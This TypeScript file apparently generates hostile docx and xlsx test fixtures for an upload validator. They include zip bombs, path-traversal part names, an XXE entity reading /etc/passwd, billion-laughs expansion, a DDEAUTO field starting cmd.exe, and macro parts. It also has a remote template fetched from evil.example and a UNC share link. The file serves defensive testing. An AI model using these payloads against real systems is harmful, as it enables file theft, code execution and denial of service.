import { createHash } from "node:crypto";
import { type HostileFile, refusedAs } from "./hostile-file.ts";
import { docx, relation, relsXml, sheetXml, typesXml, wordText, wordXml, xlsx } from "./office.ts";
import { type ZipEntry, zip } from "./zip.ts";

const unsafe = refusedAs("door", "archive_unsafe");
const active = refusedAs("door", "file_active_content");
const external = refusedAs("door", "file_external_content");
const damaged = refusedAs("door", "file_damaged");
const tooComplex = refusedAs("door", "file_too_complex");

const part = (name: string, bytes: Uint8Array | string = "x", says?: ZipEntry["says"]): ZipEntry => ({
  name,
  bytes: Buffer.from(bytes),
  ...(says && { says }),
});
const withPart =
  (...args: Parameters<typeof part>) =>
  () =>
    docx({}, [part(...args)]);
const zeros = Buffer.alloc(30 * 1024 * 1024);
const noise = Buffer.from(Array.from({ length: 400_000 }, (_, index) => (index * index) % 251));
/** Sixteen in a row. */
const cells = (rows: number) =>
  Array.from(
    { length: rows },
    (_, row) =>
      `<row r="${row + 1}">${[..."ABCDEFGHIJKLMNOP"].map((column, index) => `<c r="${column}${row + 1}"><v>${(row * 16 + index) % 9_973}</v></c>`).join("")}</row>`,
  ).join("");
/** What does not get smaller: only sharing makes it much. */
const dense = Buffer.concat(Array.from({ length: 1_000 }, (_, index) => createHash("sha512").update(String(index)).digest()));
const LAUGHS = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n} "${`&a${n === 0 ? "" : n - 1};`.repeat(10)}">`).join("")}]>`;
const XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
const WORD_RELS = "word/_rels/document.xml.rels";

export const ARCHIVES: readonly HostileFile[] = [
  unsafe("a bomb of zeros", "a.docx", withPart("word/media/image1.png", zeros)),
  unsafe("an archive in the archive", "a.docx", withPart("word/media/more.zip", zip([part("a")]))),
  unsafe("an archive under another name", "a.docx", withPart("word/media/image1.png", zip([part("a")]))),
  unsafe("a workbook in the document", "a.docx", withPart("word/embeddings/book.xlsx", xlsx())),
  unsafe("entries that share their bytes", "a.docx", () =>
    docx({}, [
      part("word/media/0.bin", dense),
      ...Array.from({ length: 40 }, (_, index) => ({ ...part(`word/media/${index + 1}.bin`, dense), sharedWith: "word/media/0.bin" })),
    ]),
  ),
  unsafe("a directory that says less than there is", "a.docx", withPart("word/media/image1.png", noise, { size: 100 })),
  unsafe("a directory that says 4 GB", "a.docx", withPart("word/media/image1.png", noise, { size: 0xfffffff0 })),
  unsafe("six thousand parts", "a.docx", () =>
    docx(
      {},
      Array.from({ length: 6_000 }, (_, index) => part(`word/p${index}.xml`, "<a/>")),
    ),
  ),
  unsafe("a part that leads out", "a.docx", withPart("../../etc/cron.d/x")),
  unsafe("a part from the root", "a.docx", withPart("/etc/passwd")),
  unsafe("a part that leads out with backslashes", "a.docx", withPart("word\\..\\..\\x")),
  unsafe("a part on a drive", "a.docx", withPart("C:/Windows/x.dll")),
  unsafe("a part with a zero in its name", "a.docx", withPart("word/x.xml\0.png")),
  unsafe("two parts of one name", "a.docx", () => docx({}, [part("word/x.xml", "<a/>"), part("word/X.xml", "<b/>")])),
  unsafe("a packing nobody here knows", "a.docx", withPart("word/x.xml", "<a/>", { method: 14 })),
  damaged("a wrong sum", "a.docx", withPart("word/x.xml", "<a/>", { crc: 1 })),
  damaged("a directory that says more than there is", "a.docx", withPart("word/media/image1.png", noise, { size: 500_000 })),
  damaged("no end", "a.docx", () => docx().subarray(0, 900)),
  damaged("a workbook without a sheet", "a.xlsx", () =>
    docx({
      "[Content_Types].xml": typesXml("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "word/document.xml"),
    }),
  ),
  refusedAs("door", "file_encrypted")("a part with a password", "a.docx", withPart("word/x.xml", "<a/>", { flags: 1 })),
  active("a macro", "a.docx", withPart("word/vbaProject.bin")),
  active("a macro in capitals", "a.xlsx", () => xlsx({}, [part("xl/VBAPROJECT.BIN")])),
  active("a control", "a.docx", withPart("word/activeX/activeX1.xml", "<a/>")),
  active("an old macro sheet", "a.xlsx", () => xlsx({}, [part("xl/macrosheets/sheet1.xml", "<a/>")])),
  active("an embedded object", "a.docx", withPart("word/embeddings/oleObject1.bin")),
  active("a field that starts a program", "a.docx", () =>
    docx({
      "word/document.xml": wordXml(
        '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r></w:p>',
      ),
    }),
  ),
  external("an entity from a file", "a.docx", () => docx({ "word/document.xml": wordXml(wordText("&amp;e;"), XXE) })),
  external("an entity in a sheet", "a.xlsx", () => xlsx({ "xl/worksheets/sheet1.xml": sheetXml("", XXE) })),
  external("a billion laughs", "a.docx", () => docx({ "word/document.xml": wordXml(wordText("&amp;a29;"), LAUGHS) })),
  external("an entity in a part without an ending", "a.docx", withPart("word/thing", `<?xml version="1.0"?>${XXE}<x>&e;</x>`)),
  external("a template from elsewhere", "a.docx", () =>
    docx({ "word/_rels/settings.xml.rels": relsXml(relation("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")) }),
  ),
  external("a picture from elsewhere", "a.docx", () =>
    docx({ [WORD_RELS]: relsXml(relation("rId1", "image", "http://evil.example/x.png", "External")) }),
  ),
  external("a workbook from a share", "a.xlsx", () =>
    xlsx({
      "xl/externalLinks/_rels/externalLink1.xml.rels": relsXml(
        relation("rId1", "externalLinkPath", "file://///10.0.0.1/x.xlsx", "External"),
      ),
    }),
  ),
  damaged("declarations in UTF-16", "a.docx", () => docx({ "word/document.xml": Buffer.from(wordXml(wordText("x"), XXE), "utf16le") })),
  tooComplex("a million cells", "a.xlsx", () => xlsx({ "xl/worksheets/sheet1.xml": sheetXml(cells(62_500)) })),
  tooComplex("more cells than are read", "a.xlsx", () => xlsx({ "xl/worksheets/sheet1.xml": sheetXml(cells(12_501)) })),
  tooComplex("a cell at the far end", "a.xlsx", () =>
    xlsx({ "xl/worksheets/sheet1.xml": sheetXml('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>') }),
  ),
  unsafe("a sheet packed beyond belief", "a.xlsx", () => xlsx({}, [part("xl/worksheets/sheet2.xml", sheetXml(""), { size: 26_000_000 })])),
  refusedAs("door", "type_not_allowed")("the type of a document with macros", "a.docx", () =>
    docx({ "[Content_Types].xml": typesXml("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml") }),
  ),
  refusedAs("reading", "file_damaged")("markup that ends nowhere", "a.docx", () =>
    docx({ "word/document.xml": "<w:document><w:body><w:p>" }),
  ),
];
